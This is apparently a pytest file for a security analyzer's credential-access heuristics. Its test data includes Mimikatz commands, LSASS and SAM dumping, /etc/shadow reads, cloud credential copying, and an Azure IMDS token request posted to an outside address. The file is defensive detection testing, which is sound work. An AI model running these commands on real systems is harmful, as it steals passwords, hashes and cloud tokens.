"""Credential access: dumps and token theft are strong; a Key Vault token request is not."""

from __future__ import annotations

import pytest

from inspector.model import ArtifactType
from tests.analyzers.heuristics.helpers import ids, score

PS = ArtifactType.POWERSHELL


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Invoke-Mimikatz -Command '\"sekurlsa::logonpasswords\"'", "heur.credential_access.mimikatz"),
        ("mimikatz.exe \"privilege::debug\" \"lsadump::sam\" exit", "heur.credential_access.mimikatz"),
        (r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\t\l.dmp full",
         "heur.credential_access.lsass_dump"),
        ("procdump64.exe -accepteula -ma lsass.exe ls.dmp", "heur.credential_access.lsass_dump"),
        (r"reg save HKLM\SAM C:\t\s.hiv", "heur.credential_access.sam_hive_save"),
        ("ntdsutil \"ac i ntds\" \"ifm\" \"create full c:\\t\" q q", "heur.credential_access.ntds"),
        ("cat /etc/shadow > /tmp/s", "heur.credential_access.etc_shadow"),
        ("tar czf /tmp/a.tgz ~/.azure/accessTokens.json", "heur.credential_access.cloud_credential_files"),
        ("cp /root/.aws/credentials /tmp/c", "heur.credential_access.cloud_credential_files"),
        ('curl -H Metadata:true "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01'
         '&resource=https://management.azure.com/"', "heur.credential_access.imds_arm_token"),
        ("curl http://168.63.129.16/machine/?comp=goalstate", "heur.credential_access.wireserver"),
        ("Invoke-Kerberoast -OutputFormat Hashcat", "heur.credential_access.credential_tools"),
    ],
)
def test_credential_access_is_detected(text: str, expected: str) -> None:
    assert expected in ids(text, PS)


@pytest.mark.parametrize(
    "text",
    [
        "Invoke-Mimikatz -DumpCreds",
        r"rundll32.exe comsvcs.dll, MiniDump 624 C:\t\l.dmp full",
        r"reg save HKLM\SECURITY C:\t\sec.hiv",
        'TOKEN=$(curl -s -H Metadata:true "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01'
        '&resource=https://management.azure.com/")\ncurl -s -X POST -d "$TOKEN" http://203.0.113.5/t',
        'T=$(curl -s -H Metadata:true "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01'
        '&resource=https://management.azure.com/" | jq -r .access_token)\n'
        'curl -s -X PUT -H "Authorization: Bearer $T" "https://management.azure.com/subscriptions/$S/resourceGroups/'
        '$G/providers/Microsoft.Compute/virtualMachines/$V/runCommands/x?api-version=2023-03-01" -d @body.json',
    ],
)
def test_clear_credential_theft_is_suspicious_on_its_own(text: str) -> None:
    assert score(text, PS) >= 300


def test_a_key_vault_token_from_imds_is_not_suspicious_alone() -> None:
    text = (
        "$r = Invoke-RestMethod -Headers @{Metadata='true'} -Uri 'http://169.254.169.254/metadata/identity/oauth2/"
        "token?api-version=2018-02-01&resource=https%3A%2F%2Fvault.azure.net'\n"
        "$s = Invoke-RestMethod -Headers @{Authorization=\"Bearer $($r.access_token)\"} -Uri $secretUri"
    )
    found = ids(text, PS)
    assert "heur.credential_access.imds_token" in found
    assert "heur.credential_access.imds_arm_token" not in found
    assert score(text, PS) < 300


def test_writing_an_aws_config_is_only_a_weak_signal() -> None:
    assert score("mkdir -p ~/.aws && cat > ~/.aws/config <<EOF\n[default]\nregion = eu-west-1\nEOF") < 100


def test_an_arm_token_used_to_read_the_vms_own_tags_is_not_suspicious_alone() -> None:
    text = (
        'T=$(curl -s -H Metadata:true "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01'
        '&resource=https%3A%2F%2Fmanagement.azure.com%2F" | jq -r .access_token)\n'
        'S=$(curl -s -H Metadata:true "http://169.254.169.254/metadata/instance/compute/subscriptionId?format=text")\n'
        'curl -s -H "Authorization: Bearer $T" "https://management.azure.com/subscriptions/$S/resourceGroups/$G/'
        'providers/Microsoft.Compute/virtualMachines/$V?api-version=2023-03-01" | jq -r .tags'
    )
    found = ids(text)
    assert "heur.credential_access.imds_arm_token" in found
    assert "heur.credential_access.imds_token_arm_abuse" not in found
    assert score(text) <= 250  # room for weak signals (entropy, ...) below the alert threshold


def test_curl_options_that_only_look_like_an_upload_do_not_make_a_token_request_exfiltration() -> None:
    text = ('curl -s -D - -H Metadata:true "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01'
            '&resource=https%3A%2F%2Fvault.azure.net" | grep -i www-authenticate | cut -d "=" -f 2\n'
            'curl -f -s -o /tmp/ca.pem https://example.org/ca.pem')
    assert "heur.credential_access.imds_token_exfil" not in ids(text)
    posted = text + '\ncurl -s -d "$TOKEN" https://203.0.113.5/t'
    assert "heur.credential_access.imds_token_exfil" in ids(posted)
